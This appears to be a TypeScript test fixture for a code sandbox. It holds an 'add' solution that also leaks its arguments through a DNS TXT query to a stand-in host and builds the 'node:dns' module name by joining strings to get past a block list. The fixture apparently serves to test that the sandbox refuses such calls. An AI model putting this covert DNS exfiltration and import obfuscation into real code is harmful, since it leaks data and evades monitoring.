// problem: add
// expect: RE
// Carries data out in a DNS query: resolveTxt, which the first list of refused DNS functions missed.
const name = ["node", "dns"].join(":");
export async function add(a: number, b: number): Promise<number> {
  const dns = (await import(name)) as { promises: { resolveTxt(host: string): Promise<unknown> } };
  await dns.promises.resolveTxt(`a${a}b${b}.exfil.invalid`);
  return a + b;
}
